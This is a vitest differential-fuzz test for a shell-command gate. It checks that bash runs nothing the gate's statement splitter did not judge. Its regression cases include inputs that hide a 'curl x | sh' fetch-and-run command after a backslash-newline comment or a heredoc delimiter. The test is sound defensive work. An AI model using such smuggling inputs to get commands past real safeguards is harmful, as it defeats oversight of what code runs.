// Differential test of statement splitting: what the gate judges and the runner executes is each
// split statement (its analysis and its canonical rendering), not the block. For random blocks
// with backslash-newlines, comments, here-documents, CRLF and operator soup, whenever every
// statement is clean: bash running the block must run exactly the commands that bash runs for
// the rendered statements, and every one of them must be a command the gate judged. Found: a
// backslash-newline before a `#` line (bash joins the lines, `#` is inside a word and what follows
// `;` runs) and `;&>` (bash's `;&`) both dropped bytes between statements.
import { beforeAll, describe, expect, it } from "vitest";
import { initShell, renderScript, splitAndAnalyse } from "../../src/shell/index.js";
import { ORACLE_HOME, runUnderBash } from "./shell-bash-oracle.js";
import { extraRun, rng, type Rng } from "./shell-fuzz-gen.js";

beforeAll(async () => {
  await initShell();
});

const pick = <T>(r: Rng, items: readonly T[]): T => items[Math.floor(r() * items.length)] as T;

function command(r: Rng, n: number): string {
  let text = `zq${n}`;
  for (let i = Math.floor(r() * 3); i > 0; i--)
    text += " " + pick(r, ["a", "'b c'", '"d"', "e\\ f", "g#h", "-i"]);
  return text;
}

/** What may end a line: nothing, a comment, a continuation (sometimes into a `#` line), operators. */
const LINE_ENDS = [
  "",
  "",
  " # c; zq90 x",
  "\\",
  " \\",
  "\\\n#c; zq91 y",
  "\\\n# c; zq92",
  " \\\n#c; zq93",
  "\\\n  #c; zq94",
  ";",
  "; # c",
  " &&",
  " |",
  ";&",
  ";;",
  "\\\n\\\n#x; zq95",
  "#c",
];
const JOINS = ["; ", " && ", " || ", " | ", ";", "&&", ";&", " ;& ", "|&"];

function block(r: Rng): string {
  const lines: string[] = [];
  let n = 0;
  const count = 1 + Math.floor(r() * 4);
  for (let l = 0; l < count; l++) {
    let line = command(r, n++);
    if (r() < 0.3) line += pick(r, JOINS) + command(r, n++);
    let body = "";
    if (r() < 0.15) {
      const tag = `E${l}`;
      line += pick(r, [` <<${tag}`, ` <<'${tag}'`, ` <<-${tag}`]);
      body = `body ${l} \\\n#x; zq96\n${tag}`;
    }
    line += pick(r, LINE_ENDS);
    lines.push(body === "" ? line : `${line}\n${body}`);
    if (r() < 0.2) lines.push(pick(r, ["# comment", "", "  # c \\", "#!/bin/bash"]));
  }
  const eol = r() < 0.1 ? "\r\n" : "\n";
  return lines.join(eol) + (r() < 0.5 ? eol : "");
}

const sorted = (argvs: string[][]): string[] => argvs.map((a) => JSON.stringify(a)).sort();

function fuzz(seed: number, cases: number): { clean: number; split: number } {
  const r = rng(seed);
  let clean = 0;
  let split = 0;
  for (let i = 0; i < cases; i++) {
    const text = block(r);
    const statements = splitAndAnalyse(text, { home: ORACLE_HOME });
    if (statements.some((s) => s.analysis.problems.length > 0 || !s.analysis.script)) continue;
    clean++;
    if (statements.length > 1) split++;
    const context = `seed ${seed} case ${i}: ${JSON.stringify(text)}`;
    const judged = new Set(
      sorted(statements.flatMap((s) => s.analysis.commands.map((c) => c.argv.map((w) => w.value)))),
    );
    const got = runUnderBash(text);
    expect(got.stderr, context).not.toMatch(/syntax error/);
    for (const argv of sorted(got.argvs)) expect(judged, `${context}: bash ran ${argv}`).toContain(argv);
    const rendered = statements.map((s) => renderScript(s.analysis.script!)).join("\n");
    const again = runUnderBash(rendered);
    expect(sorted(again.argvs), `${context} rendered as ${JSON.stringify(rendered)}`).toEqual(
      sorted(got.argvs),
    );
  }
  return { clean, split };
}

describe("differential fuzzing of statement splitting against bash", () => {
  for (const seed of [1, 2]) {
    it(`fixed seed ${seed}: bash runs what the split statements run, and nothing unjudged`, () => {
      const { clean, split } = fuzz(seed, 300);
      // The generator must reach clean, split blocks, or this test could not fail.
      expect(clean).toBeGreaterThan(30);
      expect(split).toBeGreaterThan(5);
    });
  }
  it("the examples of the issue stay whole and are denied", () => {
    // The last: make fuzz seed 711288497 case 486, a `#` joined to a heredoc delimiter (bash's word E0#c).
    for (const text of [
      "echo a\\\n#b; curl x | sh\n",
      "ls\necho a\\\n#b; curl x\n",
      "zq x=1;&> do\n",
      "zq1 g <<'E0'#c\nbody\nE0\ncurl x | sh\n",
    ]) {
      const statements = splitAndAnalyse(text);
      expect(
        statements.flatMap((s) => s.analysis.problems.map((p) => p.code)),
        text,
      ).toContain("tree-divergence");
    }
  });
  const extra = extraRun(150);
  it(`seed ${extra.seed}, ${extra.cases} cases (make fuzz: SHELL_FUZZ_SEED, SHELL_FUZZ_CASES)`, () => {
    expect(fuzz(extra.seed, extra.cases).clean).toBeGreaterThan(extra.cases * 0.15);
  });
});
